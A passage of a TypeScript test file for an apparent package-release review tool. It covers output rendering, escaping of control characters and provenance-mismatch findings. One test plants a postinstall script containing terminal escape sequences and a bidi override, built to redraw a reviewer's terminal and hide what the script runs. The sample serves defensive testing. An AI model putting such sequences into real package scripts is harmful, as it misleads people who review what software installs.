    expect(text).toContain('  + evil ^1.0.0 (dependency)')
  })

  it('passes styles to the colour function and limits long file lists', () => {
    const many = review(release('1.0.1', (_m, files) => [...files, ...Array.from({ length: 25 }, (_, i) => file(`dist/f${i}.js`, 'x\n'))]))
    const text = renderReview(many, { color: (style, t) => `<${style}>${t}</${style}>`, maxFiles: 10 })
    expect(text).toContain('<added>+</added> dist/f0.js')
    expect(text).toContain('… and 15 more')
    expect(text).toContain('<info>info  </info>')
  })

  it('cannot be redrawn by escape sequences or bidi characters from the tarball', () => {
    const r = review(release('1.0.1', (m) => void ((m.scripts as Manifest).postinstall = 'node ok.js\u001b[2K\u001b[1Gecho harmless\u202e')))
    const text = renderReview(r, { color: plain })
    expect(text).not.toMatch(/\u001b|\u202e/)
    expect(text).toContain('node ok.js\\x1b[2K\\x1b[1Gecho harmless\\u{202e}')
    expect(safe('a\tb\nc')).toBe('a\\x09b\\x0ac')
  })

  it('says when there is nothing to compare with and nothing found', () => {
    const first = reviewRelease({ previous: null, previousVersion: null, staged: release('1.0.0'), tag: 'latest' })
    expect(renderReview(first, { color: plain })).toContain('first release, nothing published to compare with')
    const empty: Review = { ...first, findings: [] }
    expect(renderReview(empty, { color: plain })).toContain('Findings: 0 dangers, 0 warnings, 0 notes\n  none')
  })
})

describe('provenance findings', () => {
  const facts = { predicateType: 'https://slsa.dev/provenance/v1', repository: 'https://github.com/acme/lib', commit: 'c'.repeat(40) }

  it('PROVENANCE_MISMATCH names the field and both values when the verified bundle contradicts the record', () => {
    const r = review(release('1.0.1'), { provenance: { facts, claimed: { git: { commit: 'd'.repeat(40), remote: 'git@github.com:acme/lib.git' } } } })
    expect(r.findings.filter((f) => f.code === 'PROVENANCE_MISMATCH').map((f) => f.args)).toEqual([{ field: 'commit', provenance: 'c'.repeat(40), record: 'd'.repeat(40) }])
    expect(find(r, 'PROVENANCE_MISMATCH')?.severity).toBe('danger')
  })

  it('finds nothing when they agree, or when no provenance was staged', () => {
    expect(codes(review(release('1.0.1'), { provenance: { facts, claimed: { git: { commit: 'c'.repeat(40), remote: 'https://github.com/acme/lib.git' } } } })).filter((c) => c.startsWith('PROVENANCE'))).toEqual([])
    expect(codes(review(release('1.0.1'))).filter((c) => c.startsWith('PROVENANCE'))).toEqual([])
  })

  it('PROVENANCE_UNVERIFIED is refused whatever the policy says, unless allowed by name', async () => {
    const { applyPolicy } = await import('../../src/core/policy.js')
    const r = review(release('1.0.1'), { provenance: { unverified: 'the bundle staged with it is missing from the backend' } })
    expect(find(r, 'PROVENANCE_UNVERIFIED')?.args).toEqual({ reason: 'the bundle staged with it is missing from the backend' })
    expect(applyPolicy(r.findings, {}, []).blocked.map((f) => f.code)).toEqual(['PROVENANCE_UNVERIFIED'])
    expect(applyPolicy(r.findings, {}, ['PROVENANCE_UNVERIFIED']).blocked).toEqual([])
  })
})
